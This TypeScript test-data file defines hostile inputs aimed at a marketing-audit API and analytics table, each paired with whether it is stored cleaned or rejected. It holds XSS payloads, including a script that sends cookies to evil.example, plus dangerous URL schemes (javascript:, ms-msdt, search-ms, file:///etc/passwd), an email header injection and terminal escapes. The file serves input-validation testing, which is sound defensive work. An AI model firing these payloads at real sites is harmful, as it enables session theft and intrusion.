import { sampleAudit } from '../../src/sample-audit.ts'

/**
 * Hostile input corpus (issue 11, item 1): what a stranger can send straight at the API with the
 * public anon key, and what must come of it. Data only; `hostile-input.test.ts` runs it.
 *
 * Every case names its outcome:
 *   - `stored`: 2xx, and the row read back (service role) holds exactly the cleaned value given
 *     here (when given) and passes the table-wide invariants (hostile-invariants.ts);
 *   - `rejected`: that 4xx status and PostgREST error code, with a {code, message, details, hint}
 *     body, and nothing stored anywhere (contacts, audits and events counted before and after).
 *
 * Targets: the public RPC `submit_marketing_audit` and inserts into `analytics_events`. Typed
 * cases go through supabase-js (`rpc`, `insert`); malformed, huge, wrong-content-type and
 * odd-URL cases through raw fetch (`http`) or a raw socket (`socket`).
 */

export const categories = [
  'over-long',
  'empty-whitespace',
  'unicode',
  'control-chars',
  'html-script',
  'csv-formula',
  'sql-metachar',
  'wrong-types',
  'missing-extra',
  'body-level',
] as const
export type Category = (typeof categories)[number]
export type Target = 'rpc' | 'analytics'

/** A stored lead as the test reads it back (contact + audit, flattened). */
export interface StoredLead {
  first_name: string
  last_name: string
  email: string
  phone: string
  business_name: string
  website_url: string | null
  current_marketing: string | null
  goals: string | null
  monthly_budget: string
  questionnaire_score: number
  answers: Record<string, unknown>
}

export interface StoredEvent {
  event_name: string
  page_url: string
  referrer: string | null
  user_agent: string
  properties: unknown
}

export type Expectation =
  | { outcome: 'stored'; lead?: Partial<StoredLead>; event?: Partial<StoredEvent>; rows?: number }
  | { outcome: 'rejected'; status: number; code: string; fields?: string[]; message?: string }

export type CaseRequest =
  /** supabase-js rpc; `args` are merged over `baseAudit` (`omit` removes keys first). */
  | { kind: 'rpc'; args: Record<string, unknown>; omit?: string[] }
  /** supabase-js rpc with exactly this argument value (no merge). */
  | { kind: 'rpc-exact'; args: unknown }
  /** supabase-js insert into analytics_events; objects are merged over `baseEvent` unless exact. */
  | { kind: 'insert'; rows: Record<string, unknown> | Record<string, unknown>[]; exact?: boolean }
  /** raw fetch to `/rest/v1<path>` with the anon key (unless `key` says otherwise). */
  | {
      kind: 'http'
      method?: string
      path: string
      body?: string | Uint8Array
      /** null: send no Content-Type header at all (fetch then labels a string text/plain). */
      contentType?: string | null
      headers?: Record<string, string>
      key?: 'anon' | 'none' | 'garbage'
    }
  /** raw bytes on a socket, for request targets fetch refuses to send; `{key}` is the anon key. */
  | { kind: 'socket'; head: string }

export interface HostileCase {
  id: string
  category: Category
  target: Target
  request: CaseRequest
  expect: Expectation
}

export const baseAudit = sampleAudit()

export const baseEvent = {
  event_name: 'hostile_probe',
  page_url: 'http://127.0.0.1:4173/marketing-audit',
  referrer: null,
  user_agent: 'hostile-corpus',
  properties: { path: '/marketing-audit' },
} as const

// ---- builders ---------------------------------------------------------------------------------

const cases: HostileCase[] = []
const seen = new Set<string>()

function add(id: string, category: Category, target: Target, request: CaseRequest, expect: Expectation): void {
  if (seen.has(id)) throw new Error(`duplicate corpus id ${id}`)
  seen.add(id)
  cases.push({ id, category, target, request, expect })
}

const stored = (lead?: Partial<StoredLead>): Expectation => ({ outcome: 'stored', lead })
const storedEvent = (event?: Partial<StoredEvent>, rows = 1): Expectation => ({ outcome: 'stored', event, rows })
const invalid = (...fields: string[]): Expectation => ({ outcome: 'rejected', status: 400, code: '22023', fields })
const rejected = (status: number, code: string): Expectation => ({ outcome: 'rejected', status, code })
/** One field refused with exactly this message (the visitor-facing one). */
const invalidWith = (field: string, message: string): Expectation => ({ outcome: 'rejected', status: 400, code: '22023', fields: [field], message })
/** The local API's type check of an argument (400 / 22023 naming it; see rpc.ts). */
const wrongType = (field: string, expected = 'a string'): Expectation => ({
  outcome: 'rejected',
  status: 400,
  code: '22023',
  message: `"${field}" must be ${expected}`,
})

const rpc = (id: string, category: Category, args: Record<string, unknown>, expect: Expectation, omit?: string[]) =>
  add(id, category, 'rpc', { kind: 'rpc', args, omit }, expect)
const event = (id: string, category: Category, row: Record<string, unknown> | Record<string, unknown>[], expect: Expectation, exact = false) =>
  add(id, category, 'analytics', { kind: 'insert', rows: row, exact }, expect)
const rawRpc = (id: string, category: Category, body: string | Uint8Array, expect: Expectation, contentType?: string | null) =>
  add(id, category, 'rpc', { kind: 'http', path: '/rpc/submit_marketing_audit', body, contentType }, expect)
const rawEvent = (id: string, category: Category, body: string | Uint8Array, expect: Expectation, contentType?: string | null) =>
  add(id, category, 'analytics', { kind: 'http', path: '/analytics_events', body, contentType }, expect)

/** The base audit as JSON with one member's raw JSON text replaced (or added). */
function auditJsonWith(key: string, rawValue: string): string {
  const { [key as keyof typeof baseAudit]: _dropped, ...rest } = baseAudit
  return `${JSON.stringify(rest).slice(0, -1)},"${key}":${rawValue}}`
}
function eventJsonWith(key: string, rawValue: string): string {
  const { [key as keyof typeof baseEvent]: _dropped, ...rest } = baseEvent
  return `${JSON.stringify(rest).slice(0, -1)},"${key}":${rawValue}}`
}

/** JSON text with the `@@` marker replaced by raw (possibly invalid UTF-8) bytes. */
function withRawBytes(json: string, bytes: number[]): Buffer {
  const [before = '', after = ''] = json.split('@@')
  return Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)])
}

const repeat = (text: string, n: number) => text.repeat(n)
const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`
const KiB = 1024

// ---- over-long: each field at its limit, one over, and huge ------------------------------------

const textLimits: { field: string; limit: number; atLimit: string; stored: (v: string) => Partial<StoredLead> }[] = [
  { field: 'first_name', limit: 50, atLimit: repeat('a', 50), stored: (v) => ({ first_name: v }) },
  { field: 'last_name', limit: 50, atLimit: repeat('b', 50), stored: (v) => ({ last_name: v }) },
  { field: 'business_name', limit: 100, atLimit: repeat('B', 100), stored: (v) => ({ business_name: v }) },
  { field: 'website', limit: 1000, atLimit: `https://glow.example/${repeat('p', 979)}`, stored: (v) => ({ website_url: v }) },
  { field: 'current_marketing', limit: 1000, atLimit: repeat('c', 1000), stored: (v) => ({ current_marketing: v }) },
  { field: 'goals', limit: 1000, atLimit: repeat('g', 1000), stored: (v) => ({ goals: v }) },
  { field: 'email', limit: 254, atLimit: `${repeat('a', 64)}@${repeat('b', 185)}.com`, stored: (v) => ({ email: v }) },
  { field: 'phone', limit: 20, atLimit: '(512) 555-0142 x 123', stored: (v) => ({ phone: v }) },
]
for (const { field, limit, atLimit, stored: expected } of textLimits) {
  if (Array.from(atLimit).length !== limit) throw new Error(`corpus: ${field} at-limit value has the wrong length`)
  rpc(`${field}-at-limit`, 'over-long', { [field]: atLimit }, stored(expected(atLimit)))
  const over = field === 'email' ? `${repeat('a', 64)}@${repeat('b', 186)}.com` : field === 'phone' ? '(512) 555-0142 x 1234' : `${atLimit}x`
  rpc(`${field}-one-over`, 'over-long', { [field]: over }, invalid(field))
  rpc(`${field}-huge-20k`, 'over-long', { [field]: repeat(field === 'phone' ? '5' : 'x', 20_000) }, invalid(field))
  // Over the 64 KiB body limit: the gateway answers before any SQL runs.
  rpc(`${field}-over-body-limit`, 'over-long', { [field]: repeat('x', 70 * KiB) }, rejected(413, 'PGRST413'))
}
rpc('first-name-padded-to-10k', 'over-long', { first_name: `Avery${repeat(' ', 10_000)}` }, stored({ first_name: 'Avery' }))
rpc('first-name-50-inside-padding', 'over-long', { first_name: `   ${repeat('a', 50)}   ` }, stored({ first_name: repeat('a', 50) }))
rpc('first-name-zalgo-over-limit', 'over-long', { first_name: `A${repeat('\u0301', 60)}` }, invalid('first_name'))
rpc('monthly-budget-huge', 'over-long', { monthly_budget: repeat('5k-10k', 3000) }, invalid('monthly_budget'))
rpc('score-four-digits', 'over-long', { questionnaire_score: '1000' }, invalid('questionnaire_score'))
rpc('score-5000-digit-number', 'over-long', { questionnaire_score: repeat('9', 5000) }, invalid('questionnaire_score'))
rpc(
  'answers-20-keys',
  'over-long',
  { answers: Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`q${i}`, i % 4])) },
  stored({ answers: Object.fromEntries(Array.from({ length: 20 }, (_, i) => [`q${i}`, i % 4])) }),
)
rpc('answers-21-keys', 'over-long', { answers: Object.fromEntries(Array.from({ length: 21 }, (_, i) => [`q${i}`, 1])) }, invalid('answers'))
rpc('answers-key-64-chars', 'over-long', { answers: { [repeat('k', 64)]: 1 } }, stored({ answers: { [repeat('k', 64)]: 1 } }))
rpc('answers-key-65-chars', 'over-long', { answers: { [repeat('k', 65)]: 1 } }, invalid('answers'))
rpc('every-field-over-at-once', 'over-long', {
  first_name: repeat('a', 51), last_name: repeat('b', 51), email: `${repeat('e', 250)}@x.io`, phone: repeat('5', 21),
  business_name: repeat('B', 101), website: repeat('w', 1001), current_marketing: repeat('c', 1001), goals: repeat('g', 1001),
}, invalid('first_name', 'last_name', 'email', 'phone', 'business_name', 'website', 'current_marketing', 'goals'))

event('event-name-64-chars', 'over-long', { event_name: `e${repeat('x', 63)}` }, storedEvent({ event_name: `e${repeat('x', 63)}` }))
event('event-name-65-chars', 'over-long', { event_name: `e${repeat('x', 64)}` }, rejected(400, '23514'))
event('page-url-2048', 'over-long', { page_url: `http://x/${repeat('p', 2039)}` }, storedEvent({ page_url: `http://x/${repeat('p', 2039)}` }))
event('page-url-2049', 'over-long', { page_url: `http://x/${repeat('p', 2040)}` }, rejected(400, '23514'))
event('page-url-huge-30k', 'over-long', { page_url: repeat('p', 30_000) }, rejected(400, '23514'))
event('referrer-2048', 'over-long', { referrer: repeat('r', 2048) }, storedEvent({ referrer: repeat('r', 2048) }))
event('referrer-2049', 'over-long', { referrer: repeat('r', 2049) }, rejected(400, '23514'))
event('user-agent-512', 'over-long', { user_agent: repeat('u', 512) }, storedEvent({ user_agent: repeat('u', 512) }))
event('user-agent-513', 'over-long', { user_agent: repeat('u', 513) }, rejected(400, '23514'))
// jsonb renders {"blob": "<n>"} as n + 12 bytes; the CHECK allows 4096.
event('properties-4096-bytes', 'over-long', { properties: { blob: repeat('x', 4084) } }, storedEvent({ properties: { blob: repeat('x', 4084) } }))
event('properties-4097-bytes', 'over-long', { properties: { blob: repeat('x', 4085) } }, rejected(400, '23514'))
event('properties-over-body-limit', 'over-long', { properties: { blob: repeat('x', 70 * KiB) } }, rejected(413, 'PGRST413'))
event('batch-of-25-events', 'over-long', Array.from({ length: 25 }, (_, i) => ({ ...baseEvent, page_url: `http://x/${i}` })), storedEvent(undefined, 25), true)
event('batch-of-26-events', 'over-long', Array.from({ length: 26 }, (_, i) => ({ ...baseEvent, page_url: `http://x/${i}` })), rejected(413, 'PT413'), true)

// ---- empty and whitespace-only ----------------------------------------------------------------

const blankValues: [string, string][] = [
  ['empty', ''],
  ['spaces', '   '],
  ['ascii-whitespace', ' \t\r\n\f\v '],
  ['no-break-spaces', '\u00a0\u00a0\u00a0'],
  ['unicode-spaces', '\u3000\u2003\u2009\u202f\u205f'],
  ['invisible-only', '\u200b\u200b\ufeff\u2060'],
]
const requiredFields = ['first_name', 'last_name', 'email', 'phone', 'business_name', 'monthly_budget', 'questionnaire_score']
for (const field of requiredFields) {
  for (const [label, value] of blankValues) rpc(`${field}-${label}`, 'empty-whitespace', { [field]: value }, invalid(field))
}
const optionalFields: [string, keyof StoredLead][] = [
  ['website', 'website_url'],
  ['current_marketing', 'current_marketing'],
  ['goals', 'goals'],
]
for (const [field, column] of optionalFields) {
  for (const [label, value] of [['empty', ''], ['spaces', '    '], ['line-breaks', '\n\t\r\n'], ['unicode-blank', '\u00a0\u3000\u200b']]) {
    rpc(`${field}-${label}-stored-as-null`, 'empty-whitespace', { [field]: value }, stored({ [column]: null }))
  }
}
rpc('answers-empty-object', 'empty-whitespace', { answers: {} }, stored({ answers: {} }))
// Characters that show nothing. A value made only of them (and white space) is missing, so the
// "required" messages apply; inside real text they stay (emoji sequences, Persian, flags).
const invisibleOnly: [string, string][] = [
  ['zwj-zwnj', '\u200d\u200c\u200d'],
  ['lrm-rlm', '\u200e\u200f\u200e'],
  ['hangul-fillers', '\u3164\u115f\u1160\uffa0'],
  ['braille-blank', '\u2800\u2800\u2800'],
  ['soft-hyphen-cgj', '\u00ad\u034f\u00ad'],
  ['variation-selectors', '\ufe0f\ufe0e\u{E0100}'],
  ['invisible-operators', '\u2061\u2062\u2063\u2064'],
  ['tag-characters', '\u{E0001}\u{E0041}\u{E007F}'],
  ['mongolian-selectors', '\u180b\u180c\u180d\u180f'],
  ['mixed-with-spaces', ' \u200d\u00a0\u3164 \u2800\u200e\u2063 '],
]
const requiredMessages: [string, string][] = [
  ['first_name', 'First name is required'],
  ['last_name', 'Last name is required'],
  ['business_name', 'Business name is required'],
  ['email', 'Email is required'],
]
for (const [field, message] of requiredMessages) {
  for (const [label, value] of invisibleOnly) rpc(`${field}-${label}-is-missing`, 'empty-whitespace', { [field]: value }, invalidWith(field, message))
}
for (const field of ['phone', 'monthly_budget', 'questionnaire_score']) {
  rpc(`${field}-invisible-marks-only`, 'empty-whitespace', { [field]: ' \u200d\u00a0\u3164 \u2800\u200e\u2063 ' }, invalid(field))
}
for (const [field, column] of optionalFields) {
  rpc(`${field}-invisible-only-stored-as-null`, 'empty-whitespace', { [field]: '\u200d\u2800\u3164\n\u00ad' }, stored({ [column]: null }))
}
// The minimum length counts what shows: one letter and an invisible mark is one character.
rpc('first-name-letter-and-zwj-too-short', 'empty-whitespace', { first_name: 'A\u200d' }, invalidWith('first_name', 'First name must be at least 2 characters'))
rpc('first-name-letter-and-braille-blank-too-short', 'empty-whitespace', { first_name: '\u2800A\u2800' }, invalidWith('first_name', 'First name must be at least 2 characters'))
rpc('last-name-letter-and-marks-too-short', 'empty-whitespace', { last_name: 'L\u200e\u200f\ufe0f' }, invalidWith('last_name', 'Last name must be at least 2 characters'))
rpc('business-letter-and-filler-too-short', 'empty-whitespace', { business_name: 'G\u3164\u3164' }, invalidWith('business_name', 'Business name is required'))
rpc('two-letters-with-zwnj-kept', 'empty-whitespace', { first_name: 'A\u200cB' }, stored({ first_name: 'A\u200cB' }))
event('referrer-invisible-only-becomes-null', 'empty-whitespace', { referrer: '\u200d\u2800\u3164' }, storedEvent({ referrer: null }))
event('page-url-invisible-only', 'empty-whitespace', { page_url: '\u200e\u2063\u{E0041}' }, rejected(400, '23514'))
event('page-url-empty', 'empty-whitespace', { page_url: '' }, rejected(400, '23514'))
event('page-url-whitespace-only', 'empty-whitespace', { page_url: '   ' }, rejected(400, '23514'))
event('event-name-empty', 'empty-whitespace', { event_name: '' }, rejected(400, '23514'))
event('user-agent-empty', 'empty-whitespace', { user_agent: '' }, storedEvent({ user_agent: '' }))
event('referrer-blank-becomes-null', 'empty-whitespace', { referrer: ' \u00a0 ' }, storedEvent({ referrer: null }))
event('properties-empty-object', 'empty-whitespace', { properties: {} }, storedEvent({ properties: {} }))
event('insert-empty-array', 'empty-whitespace', [], storedEvent(undefined, 0), true)

// ---- unicode edge cases -----------------------------------------------------------------------

rpc('nfd-name-normalised-to-nfc', 'unicode', { first_name: 'Jose\u0301' }, stored({ first_name: 'Jos\u00e9' }))
rpc('nfd-vietnamese-surname', 'unicode', { last_name: 'Nguye\u0302\u0303n' }, stored({ last_name: 'Nguy\u1ec5n' }))
rpc('nfc-name-unchanged', 'unicode', { first_name: 'Zo\u00eb' }, stored({ first_name: 'Zo\u00eb' }))
rpc('combining-marks-within-limit', 'unicode', { first_name: 'Za\u0353\u0364lgo\u0489' }, stored({ first_name: 'Za\u0353\u0364lgo\u0489' }))
rpc('zwj-emoji-sequence-kept', 'unicode', { first_name: 'Ann \u{1F469}\u200d\u2695\ufe0f' }, stored({ first_name: 'Ann \u{1F469}\u200d\u2695\ufe0f' }))
rpc('zwnj-persian-kept', 'unicode', { last_name: '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645' }, stored({ last_name: '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645' }))
rpc('fifty-surrogate-pair-emoji', 'unicode', { first_name: repeat('\u{1F600}', 50) }, stored({ first_name: repeat('\u{1F600}', 50) }))
rpc('fifty-one-surrogate-pair-emoji', 'unicode', { first_name: repeat('\u{1F600}', 51) }, invalid('first_name'))
rpc('flag-emoji-with-tag-characters', 'unicode', { business_name: 'Glow \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}' }, stored({ business_name: 'Glow \u{1F3F4}\u{E0067}\u{E0062}\u{E0073}\u{E0063}\u{E0074}\u{E007F}' }))
rpc('rtl-mark-kept', 'unicode', { first_name: 'Ann\u200f' }, stored({ first_name: 'Ann\u200f' }))
rpc('rtl-override-removed', 'unicode', { first_name: 'Ann\u202egpj.exe' }, stored({ first_name: 'Anngpj.exe' }))
rpc('ltr-embedding-removed', 'unicode', { last_name: '\u202aStone\u202c' }, stored({ last_name: 'Stone' }))
rpc('bidi-isolates-removed', 'unicode', { business_name: '\u2067Glow\u2069 \u2066Spa\u2069' }, stored({ business_name: 'Glow Spa' }))
rpc('override-only-left-one-letter', 'unicode', { first_name: '\u202eA\u202c' }, invalid('first_name'))
rpc('rtl-override-in-email-domain', 'unicode', { email: 'ann@\u202eelpmaxe.com' }, stored({ email: 'ann@elpmaxe.com' }))
rpc('arabic-name', 'unicode', { first_name: '\u0645\u062d\u0645\u062f' }, stored({ first_name: '\u0645\u062d\u0645\u062f' }))
rpc('hebrew-business', 'unicode', { business_name: '\u05e9\u05dc\u05d5\u05dd \u05e1\u05e4\u05d0' }, stored({ business_name: '\u05e9\u05dc\u05d5\u05dd \u05e1\u05e4\u05d0' }))
rpc('cjk-two-characters', 'unicode', { first_name: '\u5c71\u7530' }, stored({ first_name: '\u5c71\u7530' }))
rpc('cjk-one-character-too-short', 'unicode', { first_name: '\u5c71' }, invalid('first_name'))
rpc('homoglyph-cyrillic-local-part', 'unicode', { email: '\u0430dmin@glow.example' }, stored({ email: '\u0430dmin@glow.example' }))
rpc('homoglyph-cyrillic-domain', 'unicode', { email: 'ann@gl\u043ew.example' }, stored({ email: 'ann@gl\u043ew.example' }))
rpc('internationalised-email', 'unicode', { email: 'jos\u00e9@ex\u00e4mple.de' }, stored({ email: 'jos\u00e9@ex\u00e4mple.de' }))
rpc('fullwidth-at-sign-email', 'unicode', { email: 'ann\uff20glow.example' }, invalid('email'))
rpc('zero-width-space-inside-name', 'unicode', { first_name: 'An\u200bn' }, stored({ first_name: 'Ann' }))
rpc('bom-prefix', 'unicode', { first_name: '\ufeffAnn' }, stored({ first_name: 'Ann' }))
rpc('mongolian-vowel-separator', 'unicode', { last_name: '\u180eLee\u180e' }, stored({ last_name: 'Lee' }))
rpc('line-separator-in-name', 'unicode', { first_name: 'Ann\u2028Lee' }, stored({ first_name: 'AnnLee' }))
rpc('paragraph-separator-in-goals', 'unicode', { goals: 'First\u2029Second' }, stored({ goals: 'First\nSecond' }))
rpc('no-break-space-inside-kept', 'unicode', { first_name: 'Mary\u00a0Ann' }, stored({ first_name: 'Mary\u00a0Ann' }))
rpc('em-spaces-trimmed', 'unicode', { first_name: '\u2003Ann\u2003' }, stored({ first_name: 'Ann' }))
rpc('noncharacter-kept', 'unicode', { first_name: 'Ann\uffff' }, stored({ first_name: 'Ann\uffff' }))
rpc('private-use-kept', 'unicode', { first_name: 'Ann\ue000' }, stored({ first_name: 'Ann\ue000' }))
rpc('emoji-in-phone', 'unicode', { phone: '\u{1F4DE} 512 555 0142' }, stored({ phone: '\u{1F4DE} 512 555 0142' }))
rpc('arabic-indic-digits-phone', 'unicode', { phone: '\u0665\u0661\u0662\u0665\u0665\u0665\u0660\u0661\u0664\u0662' }, invalid('phone'))
rpc('lone-high-surrogate', 'unicode', { first_name: 'An\ud800n' }, rejected(400, '22P02'))
rpc('lone-low-surrogate', 'unicode', { business_name: 'Glow\udc00' }, rejected(400, '22P02'))
rpc('fullwidth-budget', 'unicode', { monthly_budget: '\uff15k-10k' }, invalid('monthly_budget'))
event('unicode-page-url', 'unicode', { page_url: 'https://\u4f8b\u3048.jp/\u30d1\u30b9' }, storedEvent({ page_url: 'https://\u4f8b\u3048.jp/\u30d1\u30b9' }))
event('rtl-override-in-user-agent', 'unicode', { user_agent: 'Mozilla\u202e/5.0' }, storedEvent({ user_agent: 'Mozilla/5.0' }))
event('emoji-properties', 'unicode', { properties: { label: '\u{1F600}\u200d', rtl: '\u202e' } }, storedEvent({ properties: { label: '\u{1F600}\u200d', rtl: '\u202e' } }))
event('lone-surrogate-page-url', 'unicode', { page_url: 'http://x/\ud800' }, rejected(400, '22P02'))

// ---- null bytes and control characters ----------------------------------------------------------

for (const field of ['first_name', 'last_name', 'email', 'phone', 'business_name', 'website', 'current_marketing', 'goals', 'monthly_budget', 'questionnaire_score']) {
  // PostgreSQL text cannot hold NUL: the JSON -> jsonb cast refuses it (22P05), before any write.
  rpc(`${field}-null-byte`, 'control-chars', { [field]: `${(baseAudit as Record<string, unknown>)[field]}\u0000` }, rejected(400, '22P05'))
}
rpc('answers-null-byte-key', 'control-chars', { answers: { 'roi\u0000': 1 } }, rejected(400, '22P05'))
rpc('answers-null-byte-value', 'control-chars', { answers: { roi: '\u0000' } }, rejected(400, '22P05'))
rpc('c0-controls-removed', 'control-chars', { first_name: 'A\u0001v\u0002e\u0003r\u0004y' }, stored({ first_name: 'Avery' }))
rpc('ansi-colour-escape-removed', 'control-chars', { first_name: '\u001b[31mAvery\u001b[0m' }, stored({ first_name: '[31mAvery[0m' }))
rpc('bell-and-backspace-removed', 'control-chars', { first_name: 'Av\u0007ery\u0008' }, stored({ first_name: 'Avery' }))
rpc('delete-char-removed', 'control-chars', { last_name: 'Stone\u007f' }, stored({ last_name: 'Stone' }))
rpc('c1-next-line-removed', 'control-chars', { first_name: 'Av\u0085ery' }, stored({ first_name: 'Avery' }))
rpc('c1-csi-removed', 'control-chars', { first_name: '\u009b31mAvery' }, stored({ first_name: '31mAvery' }))
rpc('tab-in-single-line-removed', 'control-chars', { first_name: 'Av\tery' }, stored({ first_name: 'Avery' }))
rpc('newline-in-single-line-removed', 'control-chars', { last_name: 'St\none' }, stored({ last_name: 'Stone' }))
rpc('crlf-in-single-line-removed', 'control-chars', { last_name: 'St\r\none' }, stored({ last_name: 'Stone' }))
rpc('vertical-tab-form-feed-removed', 'control-chars', { first_name: 'Av\u000bery\u000c' }, stored({ first_name: 'Avery' }))
rpc('terminal-title-escape-removed', 'control-chars', { business_name: '\u001b]0;pwned\u0007Glow Spa' }, stored({ business_name: ']0;pwnedGlow Spa' }))
rpc('email-header-injection', 'control-chars', { email: 'ann@glow.example\r\nBcc: victim@glow.example' }, invalid('email'))
rpc('email-control-char-removed', 'control-chars', { email: 'ann\u0001@glow.example' }, stored({ email: 'ann@glow.example' }))
rpc('phone-bell-removed', 'control-chars', { phone: '(512)\u0007 555-0142' }, stored({ phone: '(512) 555-0142' }))
rpc('goals-line-breaks-normalised', 'control-chars', { goals: 'Line 1\r\nLine 2\rLine 3\n\tIndented\u0001\u001b[2J' }, stored({ goals: 'Line 1\nLine 2\nLine 3\n\tIndented[2J' }))
rpc('current-marketing-c1-removed', 'control-chars', { current_marketing: 'Ads\u0085\u009f only' }, stored({ current_marketing: 'Ads only' }))
rpc('website-control-removed', 'control-chars', { website: 'https://glow.example/\u0001path' }, stored({ website_url: 'https://glow.example/path' }))
rpc('website-tab-inside-javascript-scheme', 'control-chars', { website: 'java\tscript:alert(1)' }, invalid('website'))
rpc('budget-controls-removed', 'control-chars', { monthly_budget: '\u00015k-10k\u0002' }, stored({ monthly_budget: '5k-10k' }))
rpc('score-control-removed', 'control-chars', { questionnaire_score: '\u000767' }, stored({ questionnaire_score: 67 }))
for (const field of ['event_name', 'page_url', 'referrer', 'user_agent']) {
  event(`event-${field}-null-byte`, 'control-chars', { [field]: `x\u0000` }, rejected(400, '22P05'))
}
event('event-properties-null-byte-key', 'control-chars', { properties: { 'a\u0000': 1 } }, rejected(400, '22P05'))
event('event-properties-null-byte-value', 'control-chars', { properties: { a: 'b\u0000' } }, rejected(400, '22P05'))
event('event-page-url-controls-removed', 'control-chars', { page_url: 'http://127.0.0.1:4173/\u0001\u001b[31mred' }, storedEvent({ page_url: 'http://127.0.0.1:4173/[31mred' }))
event('event-user-agent-osc-removed', 'control-chars', { user_agent: 'Mozilla/5.0\u001b]0;x\u0007 (X11)' }, storedEvent({ user_agent: 'Mozilla/5.0]0;x (X11)' }))
event('event-referrer-c1-removed', 'control-chars', { referrer: '\u0085https://r.example/' }, storedEvent({ referrer: 'https://r.example/' }))
event('event-page-url-only-controls', 'control-chars', { page_url: '\u0001\u0002\u0003' }, rejected(400, '23514'))
event('event-referrer-only-controls', 'control-chars', { referrer: '\u0001\u0085' }, storedEvent({ referrer: null }))
event('event-properties-control-text-is-json-data', 'control-chars', { properties: { note: 'a\u0001b' } }, storedEvent({ properties: { note: 'a\u0001b' } }))
event('event-name-with-newline', 'control-chars', { event_name: 'page_view\n' }, rejected(400, '23514'))

// ---- HTML and script payloads: stored as data, never run -----------------------------------------

const shortPayloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<iframe src=javascript:alert(1)>',
]
shortPayloads.forEach((payload, i) => rpc(`html-first-name-${i + 1}`, 'html-script', { first_name: payload }, stored({ first_name: payload })))
const businessPayloads = [
  '<a href="javascript:alert(1)">Glow</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '</td></tr></table><script>alert(document.cookie)</script>',
  '<details open ontoggle=alert(1)>',
]
businessPayloads.forEach((payload, i) => rpc(`html-business-${i + 1}`, 'html-script', { business_name: payload }, stored({ business_name: payload })))
rpc('html-last-name-table-breakout', 'html-script', { last_name: '</td><script>alert(1)</script>' }, stored({ last_name: '</td><script>alert(1)</script>' }))
rpc('html-goals-cookie-theft', 'html-script', { goals: '<script>fetch("https://evil.example/?c="+document.cookie)</script>' }, stored({ goals: '<script>fetch("https://evil.example/?c="+document.cookie)</script>' }))
rpc('html-current-svg-animate', 'html-script', { current_marketing: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' }, stored({ current_marketing: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' }))
rpc('html-email-local-part', 'html-script', { email: '<script>alert(1)</script>@glow.example' }, stored({ email: '<script>alert(1)</script>@glow.example' }))
rpc('html-email-quoted-svg', 'html-script', { email: '"<svg/onload=alert(1)>"@glow.example' }, stored({ email: '"<svg/onload=alert(1)>"@glow.example' }))
for (const [label, url] of [
  ['javascript', 'javascript:alert(1)'],
  ['javascript-mixed-case', 'JaVaScRiPt:alert(document.domain)'],
  ['javascript-leading-space', '   javascript:alert(1)'],
  ['javascript-space-before-colon', 'javascript :alert(1)'],
  ['javascript-comment-trick', 'javascript://comment%0aalert(1)'],
  ['data-html', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['data-svg', 'data:image/svg+xml,<svg onload=alert(1)>'],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['file', 'file:///etc/passwd'],
  ['javascript-behind-rlo', '\u202ejavascript:alert(1)'],
  ['javascript-zero-width-split', 'java\u200bscript:alert(1)'],
]) {
  rpc(`website-${label}`, 'html-script', { website: url }, invalid('website'))
}
rpc('website-https-with-html', 'html-script', { website: 'https://glow.example/"><script>alert(1)</script>' }, stored({ website_url: 'https://glow.example/"><script>alert(1)</script>' }))
// Websites: http, https, or a bare domain (the form reads it as https); no other scheme.
for (const [label, url] of [
  ['protocol-relative', '//evil.example/x'],
  ['entity-encoded-colon', 'jAvAsCrIpT&colon;alert(1)'],
  ['intent', 'intent://scan/#Intent;scheme=zxing;package=com.evil;end'],
  ['ms-msdt', 'ms-msdt:/id PCWDiagnostic /skip force /param "IT_BrowseForFile=x"'],
  ['search-ms', 'search-ms:query=invoice&crumb=location:\\\\evil.example\\share'],
  ['view-source-javascript', 'view-source:javascript:alert(1)'],
  ['ftp', 'ftp://glow.example/'],
  ['mailto', 'mailto:ann@glow.example'],
  ['tel', 'tel:+15125550142'],
  ['http-without-slashes', 'http:glow.example'],
  ['https-without-host', 'https://'],
  ['https-empty-host-path', 'https:///etc/passwd'],
  ['unc-path', '\\\\evil.example\\share'],
  ['single-word', 'glow'],
  ['javascript-with-domain-tail', 'javascript:alert(1)//glow.example'],
  ['scheme-behind-zwj', '\u200dms-msdt:/id PCWDiagnostic'],
]) {
  rpc(`website-${label}`, 'html-script', { website: url }, invalidWith('website', 'Please enter a valid website address'))
}
for (const [label, url] of [
  ['bare-domain', 'glow.example'],
  ['www-domain', 'www.glow.example'],
  ['bare-domain-with-port', 'glow.example:8080/path'],
  ['bare-domain-with-query', 'glow.example/book?x=1#top'],
  ['http', 'http://glow.example'],
  ['upper-case-https', 'HTTPS://Glow.Example/Path'],
  ['idn', 'https://\u4f8b\u3048.jp/\u30d1\u30b9'],
  ['ipv6', 'https://[2001:db8::1]/'],
]) {
  rpc(`website-${label}-stored`, 'html-script', { website: url }, stored({ website_url: url }))
}
event('html-page-url-javascript', 'html-script', { page_url: 'javascript:alert(document.domain)' }, storedEvent({ page_url: 'javascript:alert(document.domain)' }))
event('html-referrer-script', 'html-script', { referrer: '<script>alert(1)</script>' }, storedEvent({ referrer: '<script>alert(1)</script>' }))
event('html-user-agent-img', 'html-script', { user_agent: '<img src=x onerror=alert(1)>' }, storedEvent({ user_agent: '<img src=x onerror=alert(1)>' }))
event('html-properties-svg', 'html-script', { properties: { html: '<svg onload=alert(1)>', '<b>key</b>': 1 } }, storedEvent({ properties: { html: '<svg onload=alert(1)>', '<b>key</b>': 1 } }))
event('html-event-name', 'html-script', { event_name: '<script>' }, rejected(400, '23514'))
